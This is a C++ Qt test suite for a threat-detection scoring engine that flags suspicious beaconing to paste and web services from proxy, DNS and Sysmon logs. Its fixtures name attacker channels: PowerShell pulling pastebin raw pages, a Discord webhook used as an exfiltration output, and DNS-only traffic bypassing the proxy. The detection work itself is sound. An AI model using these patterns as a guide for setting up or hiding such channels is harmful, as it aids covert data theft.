    QCOMPARE(a.bytesIn, int64_t(18 * 690 + 2 * 2000));
    QCOMPARE(a.bytesOut, int64_t(20 * 300));
    // Late from the later of the proxy log's start and the host's first line there (both 01:00).
    QCOMPARE(a.lateStartHours, 0.0);
    QCOMPARE(a.idleShare, 0.5); // polls 10..19 fall in hour 2, when chrome was not used
    QCOMPARE(a.outputReactions, int64_t(2));
    QCOMPARE(a.outputPeer, QStringLiteral("discord.com"));
    QCOMPARE(a.outputDelayS, 20.0);
    QVERIFY(a.caseHasProxyLogs);

    const ChannelFeatures& out = *byDest.at(QStringLiteral("WS-A discord.com"));
    QCOMPARE(out.endpoint, QStringLiteral("discord.com/api/webhooks/123/abc-_x"));
    QCOMPARE(out.endpointRole, QStringLiteral("output"));
    QCOMPARE(out.postShare, 1.0);
    QCOMPARE(out.outputReactions, int64_t(2));
    QCOMPARE(out.outputPeer, QStringLiteral("pastebin.com"));
    QCOMPARE(out.lateStartHours, (360.0 * 12 + 20) / 3600); // its first post, after WS-A's first line

    const ChannelFeatures& browser = *byDest.at(QStringLiteral("WS-A www.example.org"));
    QCOMPARE(browser.processName, QStringLiteral("chrome.exe"));
    QCOMPARE(browser.distinctPaths, int64_t(10));
    QCOMPARE(browser.medianInterval, 1.0);

    const ChannelFeatures& dnsOnly = *byDest.at(QStringLiteral("SRV rentry.co"));
    QCOMPARE(dnsOnly.processImage, QString());
    QCOMPARE(dnsOnly.proxyRequests, int64_t(0));
    QCOMPARE(dnsOnly.dnsQueries, int64_t(10));
    QCOMPARE(dnsOnly.timingSource, QStringLiteral("dns_log"));
    QCOMPARE(dnsOnly.members, (std::vector<MemberCount>{{"dns_log", "-", 10}}));
    QCOMPARE(dnsOnly.medianInterval, 600.0);
    QCOMPARE(dnsOnly.hostRole, QStringLiteral("database-server"));
    QCOMPARE(dnsOnly.lateStartHours, 0.0);
    QCOMPARE(dnsOnly.bytesOut, int64_t(-1)); // lookups log no sizes: "not logged", never "sent 0 bytes"
    QCOMPARE(dnsOnly.bytesIn, int64_t(-1));

    // Named through its DNS answer; the matched connection and the one to the proxy are left out.
    const ChannelFeatures& named = *byDest.at(QStringLiteral("WS-B pastebin.com"));
    QCOMPARE(named.processName, QStringLiteral("python.exe"));
    QCOMPARE(named.netConnections, int64_t(6));
    QCOMPARE(named.dnsQueries, int64_t(1));
    QCOMPARE(named.timingSource, QStringLiteral("sysmon_net"));
    QCOMPARE(named.members, (std::vector<MemberCount>{{"sysmon_net", "host_dns", 6}, {"sysmon_dns", "-", 1}}));
    QCOMPARE(named.medianInterval, 300.0);
    QCOMPARE(named.endpoint, QString());
    QCOMPARE(named.bytesOut, int64_t(-1)); // Sysmon connections log no sizes
}

void TestScoring::engineScoresEveryKindOfEvidence() {
    auto store = CaseStore::open(casePath_);
    ScoringEngine engine(*store);
    const ScoreOutcome o = engine.run(ScoreMode::Full);
    QCOMPARE(o.status, QStringLiteral("done"));
    QVERIFY(o.events > 10000);
    QVERIFY(o.channels > 50);
    Statement top(store->db(),
                  "SELECT host, coalesce(process_name, ''), destination, coalesce(endpoint, ''), proxy_requests, "
                  "dns_queries, score, factors FROM alerts ORDER BY score DESC, id LIMIT 3");
    QStringList seen;
    while (top.step()) {
        const QString host = QString::fromStdString(top.text(0));
        const QString dest = QString::fromStdString(top.text(2));
        const QJsonArray factors = QJsonDocument::fromJson(QByteArray::fromStdString(top.text(7))).array();
        QVERIFY2(top.real(6) >= 40, qPrintable(host + dest));
        QVERIFY(std::abs(sumOf(factors) - top.real(6)) < 1e-6);
        if (dest == QLatin1String("pastebin.com")) {
            QCOMPARE(host, hostOf(QStringLiteral("pastebin-powershell")));
            QCOMPARE(QString::fromStdString(top.text(1)), QStringLiteral("powershell.exe"));
            QVERIFY(QString::fromStdString(top.text(3)).startsWith(QLatin1String("pastebin.com/raw/")));
        } else if (dest == QLatin1String("paste.ee")) {
            // The host without Sysmon: no process, proxy and DNS carry it.
            QCOMPARE(host, hostOf(QStringLiteral("no-sysmon-wscript")));
            QCOMPARE(QString::fromStdString(top.text(1)), QString());
            QVERIFY(top.int64(4) > 100);
        } else if (dest == QLatin1String("rentry.co")) {
            // Seen only in DNS: no proxy request at all.
            QCOMPARE(host, hostOf(QStringLiteral("dns-only-linux")));
            QCOMPARE(top.int64(4), int64_t(0));
            QVERIFY(top.int64(5) > 50);
            bool bypass = false;
            for (const auto& f : factors) {
                bypass = bypass || f.toObject().value("name").toString() == QLatin1String("proxy_bypass");
            }
            QVERIFY(bypass);
        }
        seen << dest;
    }
    seen.sort();
    QCOMPARE(seen, (QStringList{"paste.ee", "pastebin.com", "rentry.co"}));
}

void TestScoring::membersAreTheChannelsRequests() {
    auto store = CaseStore::open(casePath_);
    Statement a(store->db(), "SELECT host_id, domain_id, proxy_requests, proxy_ids, dns_ids, dns_queries, dnsq_ids "
                             "FROM alerts WHERE destination = 'pastebin.com' AND process_name = 'powershell.exe'");
    QVERIFY(a.step());
    const auto blobIds = [&a](int col) {
        return decodeMemberIds(sqlite3_column_blob(a.handle(), col), sqlite3_column_bytes(a.handle(), col));
    };
    const std::vector<int64_t> proxy = blobIds(3);
    QCOMPARE(static_cast<int64_t>(proxy.size()), a.int64(2));
    QCOMPARE(static_cast<int64_t>(blobIds(4).size() + blobIds(6).size()), a.int64(5));
    Statement ev(store->db(), "SELECT host_id, domain_id, path FROM proxy_events WHERE id = ?");
    for (int64_t id : proxy) {
        ev.reset();
        ev.bind(1, id);
        QVERIFY(ev.step());
        QCOMPARE(ev.int64(0), a.int64(0));
        QCOMPARE(ev.int64(1), a.int64(1));
        QVERIFY(QString::fromStdString(ev.text(2)).startsWith(QLatin1String("/raw/")));
    }
}

void TestScoring::rescoreWithoutReimport() {
    auto store = CaseStore::open(casePath_);
    sqlite3* db = store->db();
    const int64_t events = queryInt(db, "SELECT count(*) FROM proxy_events").value();
    Statement key(db, "SELECT channel_key, score, factors FROM alerts WHERE destination = 'pastebin.com' AND "
                      "process_name = 'powershell.exe'");
    QVERIFY(key.step());
    const std::string pasteKey = key.text(0);
    double webService = 0, unclamped = 0; // the factors' sum before the score is held to 0..100
    for (const auto& f : QJsonDocument::fromJson(QByteArray::fromStdString(key.text(2))).array()) {
        const QString name = f.toObject().value("name").toString();
        if (name == QLatin1String("web_service")) {
            webService = f.toObject().value("contribution").toDouble();
        }
        unclamped += name == QLatin1String("clamp") ? 0 : f.toObject().value("contribution").toDouble();
    }
    const double before = key.real(1);
    QCOMPARE(before, std::clamp(unclamped, 0.0, 100.0));
    QVERIFY(webService > 0);
    Statement triage(db, "INSERT INTO triage(channel_key, status, note, updated_at, updated_by) VALUES (?, "
                         "'malicious', 'seen', 'now', 'test')");
    triage.bind(1, pasteKey).exec();

    // A suppression for the host without Sysmon: re-scored from stored features, no event read.
    SuppressionRule r;
    r.host = hostOf(QStringLiteral("no-sysmon-wscript"));
    r.destination = QStringLiteral("paste.ee");
    r.reason = QStringLiteral("lab host, known test");
    const qint64 rule = addSuppression(*store, r);
    ScoringEngine engine(*store);
    ScoreOutcome o = engine.run(ScoreMode::Rescore);
    QCOMPARE(o.status, QStringLiteral("done"));
    QCOMPARE(o.events, qint64(0));
    QCOMPARE(o.suppressed, qint64(1));
    QCOMPARE(queryInt(db, "SELECT suppressed_by FROM alerts WHERE destination = 'paste.ee'").value(), int64_t(rule));
    QCOMPARE(queryInt(db, "SELECT count(*) FROM alerts WHERE suppressed_by IS NOT NULL").value(), int64_t(1));
    QCOMPARE(queryInt(db, "SELECT count(*) FROM proxy_events").value(), events);
    // Triage survives: it is keyed by the channel.
    Statement t(db,
                "SELECT t.status FROM alerts a JOIN triage t ON t.channel_key = a.channel_key WHERE a.channel_key = ?");
    t.bind(1, pasteKey);
    QVERIFY(t.step());
    QCOMPARE(QString::fromStdString(t.text(0)), QStringLiteral("malicious"));

    // A weight changed in the case's own config: the score moves by exactly that factor.
    execSql(db, "INSERT INTO case_meta(key, value) VALUES ('scoring.yaml', 'weights: {web_service: 0}')");
    o = engine.run(ScoreMode::Rescore);
    QCOMPARE(o.events, qint64(0));
    Statement after(db, "SELECT score FROM alerts WHERE channel_key = ?");
    after.bind(1, pasteKey);
    QVERIFY(after.step());
    QVERIFY2(std::abs(after.real(0) - std::clamp(unclamped - webService, 0.0, 100.0)) < 1e-9,
             qPrintable(QStringLiteral("%1 (unclamped %4) -> %2, web_service was %3")
                            .arg(before)
                            .arg(after.real(0))
                            .arg(webService)
                            .arg(unclamped)));

    // Expired, the rule stops applying.
    execSql(db, "DELETE FROM case_meta WHERE key = 'scoring.yaml'");
    expireSuppression(*store, rule);
    o = engine.run(ScoreMode::Rescore);
    QCOMPARE(o.suppressed, qint64(0));
    QCOMPARE(queryInt(db, "SELECT count(*) FROM alerts WHERE suppressed_by IS NOT NULL").value(), int64_t(0));
    QCOMPARE(queryInt(db, "SELECT count(*) FROM audit_log WHERE action LIKE 'suppression.%'").value(), int64_t(2));
}

void TestScoring::sameCaseSameScores() {
    auto store = CaseStore::open(casePath_);
    auto snapshot = [&store] {
        QStringList rows;
        Statement st(store->db(), "SELECT id, channel_key, score, factors FROM alerts ORDER BY id");
        while (st.step()) {
            rows << QString::fromStdString(std::to_string(st.int64(0)) + " " + st.text(1) + " " +
                                           std::to_string(st.real(2)) + " " + st.text(3));
        }
        return rows;
    };
    ScoringEngine engine(*store);
    QCOMPARE(engine.run(ScoreMode::Full).status, QStringLiteral("done"));
    const QStringList first = snapshot();
    QCOMPARE(engine.run(ScoreMode::Full).status, QStringLiteral("done"));
    QCOMPARE(snapshot(), first); // ids included: a re-score keeps each channel's row
    QVERIFY(first.size() > 50);
}

// A full score of an unchanged case (issue 20, schema 14) writes no alert row: each row's content
// and result digests equal the stored ones, so it keeps its page and its scored_at. A row edited
// by hand (a column of its content, its score, or its compact row lost) is written again, as the
// pass computes it.
void TestScoring::fullScoreLeavesUnchangedRows() {
    auto store = CaseStore::open(casePath_);
    sqlite3* db = store->db();
    QStringList columns;
    {
        Statement st(db, "SELECT name FROM pragma_table_info('alerts') ORDER BY cid");
        while (st.step()) {
            columns << QStringLiteral("quote(%1)").arg(QString::fromStdString(st.text(0)));
        }
    }
    QVERIFY(columns.size() > 30);
    const std::string rowsSql = "SELECT id, scored_at, " + columns.join(QStringLiteral(" || '|' || ")).toStdString() +
                                " FROM alerts ORDER BY id";
    struct Row {
        int64_t id;
        std::string scoredAt, all;
    };
    auto snapshot = [&] {
        std::vector<Row> rows;
        Statement st(db, rowsSql);
        while (st.step()) {
            rows.push_back({st.int64(0), st.text(1), st.text(2)});
        }
        return rows;
    };
    ScoringEngine engine(*store);
    QCOMPARE(engine.run(ScoreMode::Full).status, QStringLiteral("done"));
    const std::vector<Row> first = snapshot();
    QVERIFY(first.size() > 50);
    QCOMPARE(queryInt(db, "SELECT count(*) FROM alert_features WHERE content IS NULL OR result IS NULL").value(),
             int64_t(0));

    // Nothing changed: nothing but the run's own row is written.
    const int64_t changes = sqlite3_total_changes64(db);
    QThread::msleep(5); // a later pass has a later stamp, which a rewritten row would carry
    QCOMPARE(engine.run(ScoreMode::Full).status, QStringLiteral("done"));
    QCOMPARE(sqlite3_total_changes64(db) - changes, int64_t(1)); // the score_runs row
    std::vector<Row> second = snapshot();
    QCOMPARE(second.size(), first.size());
    for (size_t i = 0; i < first.size(); ++i) {
        QCOMPARE(second[i].all, first[i].all);
    }

    // Three rows edited by hand: a content column, the score, the compact row.
    const int64_t a = first[1].id, b = first[first.size() / 2].id, c = first.back().id;
    Statement edit(db, "UPDATE alerts SET host_role = 'tampered' WHERE id = ?");
    edit.bind(1, a).exec();
    Statement rescore(db, "UPDATE alerts SET score = score + 1 WHERE id = ?");
    rescore.bind(1, b).exec();
    Statement lose(db, "DELETE FROM alert_features WHERE alert_id = ?");
    lose.bind(1, c).exec();
    QCOMPARE(queryInt(db, "SELECT count(*) FROM alert_features WHERE content IS NULL").value(), int64_t(1));
    QCOMPARE(queryInt(db, "SELECT count(*) FROM alert_features WHERE result IS NULL").value(), int64_t(1));
    QThread::msleep(5);
    QCOMPARE(engine.run(ScoreMode::Full).status, QStringLiteral("done"));
    const std::vector<Row> third = snapshot();
    QCOMPARE(third.size(), first.size());
    int rewritten = 0;
    for (size_t i = 0; i < first.size(); ++i) {
        QCOMPARE(third[i].id, first[i].id);
        const bool edited = first[i].id == a || first[i].id == b || first[i].id == c;
        if (!edited) {
            QCOMPARE(third[i].all, first[i].all);
            continue;
        }
        ++rewritten;
        QVERIFY2(third[i].scoredAt > first[i].scoredAt, third[i].scoredAt.c_str()); // written by this pass
        // As computed: the row as first written, but for its stamp.
        std::string was = first[i].all, now = third[i].all;
        was.replace(was.find(first[i].scoredAt), first[i].scoredAt.size(), "");
        now.replace(now.find(third[i].scoredAt), third[i].scoredAt.size(), "");
        QCOMPARE(now, was);
    }
    QCOMPARE(rewritten, 3);
    QCOMPARE(queryInt(db, "SELECT count(*) FROM alert_features WHERE content IS NULL OR result IS NULL").value(),
             int64_t(0));
    QCOMPARE(queryInt(db, "SELECT count(*) FROM alert_features").value(), int64_t(first.size()));
}

void TestScoring::cancelKeepsThePreviousScores() {
    auto store = CaseStore::open(casePath_);
    const int64_t before = queryInt(store->db(), "SELECT count(*) FROM alerts").value();
    const int64_t runs = queryInt(store->db(), "SELECT count(*) FROM score_runs").value();
    std::atomic<bool> cancel{false};
    int reports = 0;
    const ScoreOutcome o = ScoringEngine(*store).run(ScoreMode::Full, &cancel, [&](const ScoreProgress&) {
        if (++reports == 1) {
            cancel.store(true); // as Ctrl-C would, once reading has begun
        }
    });
    QCOMPARE(o.status, QStringLiteral("cancelled"));
    QVERIFY(reports >= 1);
    QCOMPARE(queryInt(store->db(), "SELECT count(*) FROM alerts").value(), before);
    QCOMPARE(queryInt(store->db(), "SELECT count(*) FROM score_runs").value(), runs);
}

// A cancel right after start() (a window closed as a run begins), before the worker's thread has
// run a line: the run ends cancelled, the scores untouched (issue 18: the worker reset the flag).
void TestScoring::cancelRightAfterStartIsKept() {
    const int64_t runs = [&] {
        auto store = CaseStore::open(casePath_);
        return queryInt(store->db(), "SELECT count(*) FROM score_runs").value();
    }();
    ScoreJob job(casePath_);
    QSignalSpy finished(job.worker(), &ScoreWorker::finished);
    job.start(ScoreMode::Full);
    job.cancel();
    QVERIFY(finished.count() == 1 || finished.wait(60000));
    job.wait();
    QCOMPARE(finished.first().first().value<ScoreOutcome>().status, QStringLiteral("cancelled"));
    auto store = CaseStore::open(casePath_);
    QCOMPARE(queryInt(store->db(), "SELECT count(*) FROM score_runs").value(), runs);
}

QTEST_GUILESS_MAIN(TestScoring)
#include "tst_scoring.moc"
